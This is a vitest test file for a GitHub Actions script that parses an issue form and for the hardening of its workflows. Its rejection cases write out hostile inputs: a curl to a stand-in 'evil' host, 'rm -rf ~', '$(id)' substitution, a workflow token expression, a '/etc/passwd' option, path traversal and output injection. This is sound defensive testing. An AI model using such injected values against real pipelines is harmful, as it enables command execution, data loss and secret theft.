import { spawn } from 'node:child_process';
import { mkdtemp, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { format } from 'prettier';
import { describe, expect, it, onTestFinished } from 'vitest';
import { isEndpointId } from '../../src/util/endpoint-id.ts';
import { packageRoot } from '../../src/util/package-root.ts';

const SCRIPT = join(packageRoot, 'dist', 'scripts', 'read-add-model-issue.js');
const ID = 'fal-ai/vidu/q2/image-to-video/pro';
const form = (id: string, notes = '_No response_') => `### Endpoint id\n\n${id}\n\n### Notes\n\n${notes}\n`;

interface Event {
  action?: string;
  label?: { name: string };
  issue?: Record<string, unknown>;
  sender?: { login: string };
  repository?: { full_name: string };
}

const event = (body: unknown, more: Event = {}): Event => ({
  action: 'labeled',
  label: { name: 'add-model' },
  issue: { number: 7, state: 'open', body },
  sender: { login: 'a-maintainer' },
  repository: { full_name: 'owner/fal-video' },
  ...more,
});

/** Runs the script as the workflow does, over an event file and an API that answers with this permission. */
async function run(given: Event, permission = 'write') {
  const asked: string[] = [];
  const api = createServer((request, response) => {
    asked.push(`${request.url} ${request.headers.authorization}`);
    response.end(JSON.stringify({ permission }));
  });
  await new Promise<void>((resolve) => api.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void api.close());
  const folder = await mkdtemp(join(tmpdir(), 'fal-video-issue-'));
  const [path, output] = [join(folder, 'event.json'), join(folder, 'output')];
  await writeFile(path, JSON.stringify(given));
  await writeFile(output, '');
  const child = spawn(process.execPath, [SCRIPT], {
    env: {
      GITHUB_EVENT_PATH: path,
      GITHUB_OUTPUT: output,
      GITHUB_TOKEN: 'a-token',
      GITHUB_API_URL: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
    },
  });
  let said = '';
  child.stdout.on('data', (text: Buffer) => (said += text.toString()));
  child.stderr.on('data', (text: Buffer) => (said += text.toString()));
  const code = await new Promise((resolve) => child.on('close', resolve));
  return { code, said, output: await readFile(output, 'utf8'), asked };
}

describe('the issue form', () => {
  it('gives its endpoint id and number, and nothing else, after asking who set the label', async () => {
    const { code, output, asked } = await run(event(form(ID, '$(curl evil.example)\n\n### Endpoint\nx')));
    expect([code, output]).toEqual([0, `endpoint_id=${ID}\nissue_number=7\n`]);
    expect(asked).toEqual(['/repos/owner/fal-video/collaborators/a-maintainer/permission Bearer a-token']);
    expect(isEndpointId(ID)).toBe(true);
  });

  it('works with the line ends of a browser', async () => {
    expect((await run(event(form(ID).replaceAll('\n', '\r\n')))).output).toContain(`endpoint_id=${ID}\n`);
  });

  it.each(['read', 'none', 'triage'])(
    'set by somebody whose permission is %s gives nothing',
    async (permission) => {
      const { code, output, said } = await run(event(form(ID)), permission);
      expect([code, output]).toEqual([1, '']);
      expect(said).toContain('may not write');
    },
  );

  it.each<[string, unknown]>([
    ['a shell command', form('fal-ai/x; rm -rf ~')],
    ['a substitution', form('fal-ai/$(id)')],
    ['backticks', form('fal-ai/`id`')],
    ['an expression of the workflow', form('fal-ai/${{ github.token }}')],
    ['an option', form('--from=/etc/passwd')],
    ['an address', form(`https://fal.ai/models/${ID}`)],
    ['a way out of the folder', form('fal-ai/../../etc')],
    ['two ids', form(`${ID}\nfal-ai/other/app`)],
    ['a second output', form(`${ID}%0Aendpoint_id=evil/app`)],
    ['capitals', form('Fal-AI/Vidu')],
    ['letters that only look like ours', form('f\u0430l-ai/vidu')],
    ['an invisible letter', form('fal-ai/vi\u200bdu')],
    ['too much', form(`fal-ai/${'x'.repeat(300)}`)],
    ['two headings', form(ID) + form('evil/app')],
    ['no heading', ID],
    ['no answer', form('')],
    ['no body', null],
  ])('with %s gives nothing, and repeats nothing of it', async (_, body) => {
    const { code, output, said, asked } = await run(event(body));
    expect([code, output, asked]).toEqual([1, '', []]);
    expect(said).not.toMatch(/rm -rf|\$\(|evil|passwd|token|xxx/);
    expect(said.trim().split('\n')).toHaveLength(1);
  });

  it.each<[string, Event]>([
    ['another label', { label: { name: 'bug' } }],
    ['another event', { action: 'opened' }],
    ['a closed issue', { issue: { number: 7, state: 'closed', body: form(ID) } }],
    ['a pull request', { issue: { number: 7, state: 'open', body: form(ID), pull_request: {} } }],
    ['a strange labeller', { sender: { login: '../../x' } }],
    ['a strange repository', { repository: { full_name: 'a/b/../c' } }],
  ])('is not read for %s', async (_, more) => {
    expect(await run(event(form(ID), more))).toMatchObject({ code: 1, output: '', asked: [] });
  });
});

describe('the workflows', async () => {
  const folder = join(packageRoot, '.github', 'workflows');
  const names = await readdir(folder);
  const files = await Promise.all(
    names.map(async (name) => [name, await readFile(join(folder, name), 'utf8')] as const),
  );

  it('are there, and so is the form', () => {
    expect(names.toSorted()).toEqual(['add-model.yml', 'ci.yml', 'refresh-catalog.yml']);
  });

  it.each(files)('%s is sound YAML', async (_, text) => {
    await expect(format(text, { parser: 'yaml', singleQuote: true, printWidth: 110 })).resolves.toBe(text);
  });

  it('the form is sound YAML, with the heading that the script looks for', async () => {
    const text = await readFile(join(packageRoot, '.github', 'ISSUE_TEMPLATE', 'add-model.yml'), 'utf8');
    await expect(format(text, { parser: 'yaml', singleQuote: true, printWidth: 110 })).resolves.toBe(text);
    expect(text.match(/label: .*/g)).toEqual(['label: Endpoint id', 'label: Notes']);
  });

  it.each(files)('%s puts no expression into a shell', (_, text) => {
    const blocks = runBlocks(text);
    expect(blocks.length).toBe(text.match(/run: /g)?.length);
    expect(blocks.join('').length).toBeGreaterThan(5);
    for (const block of blocks) expect(block).not.toContain('${{');
  });

  it.each(files)('%s takes nothing of an issue but its number, and its steps none', (name, text) => {
    const taken = [...text.matchAll(/\$\{\{\s*github\.event\.([\w.]+)/g)].map(([, path]) => path);
    expect(taken.filter((path) => path !== 'issue.number')).toEqual([]);
    expect(text).not.toMatch(/pull_request_target/);
    // The key is for the one step that reads from fal, and nobody outside can start that.
    const secrets = text.match(/secrets\.\w+/g) ?? [];
    expect(secrets).toEqual(name === 'refresh-catalog.yml' ? ['secrets.FAL_KEY'] : []);
    if (secrets.length > 0) expect(text).not.toMatch(/^ {2}(?:issues?|issue_comment|pull_request|push)\b/m);
  });

  it.each(files)('%s gives rights one by one, and pins each action to a major version', (_, text) => {
    expect(text).toMatch(/^permissions:( \{\}|\n {2}contents: read\n)/m);
    const uses = [...text.matchAll(/uses: (.*)/g)].map(([, action]) => action);
    expect(uses.length).toBeGreaterThan(1);
    for (const action of uses) expect(action).toMatch(/^actions\/[a-z-]+@v\d+$/);
    expect(text).not.toMatch(/write-all|id-token/);
  });

  it('no job both reads the issue and may write', () => {
    const text = files.find(([name]) => name === 'add-model.yml')?.[1] ?? '';
    const [make = '', open = ''] = text.split(/\n {2}open:\n/);
    expect(make).not.toMatch(/: write/);
    expect(make).toContain('persist-credentials: false');
    expect(open).not.toMatch(/npm |node |github\.event/);
  });
});

/** The text of every `run:`, on one line or several. */
function runBlocks(text: string): string[] {
  const lines = text.split('\n');
  return lines.flatMap((line, index) => {
    const found = /^(\s*(?:- )?)run: (.*)$/.exec(line);
    if (found === null) return [];
    const [, indent = '', first = ''] = found;
    const rest = lines.slice(index + 1);
    const end = rest.findIndex((next) => next.trim() !== '' && next.search(/\S/) <= indent.length);
    return [first.startsWith('|') ? rest.slice(0, end < 0 ? undefined : end).join('\n') : first];
  });
}
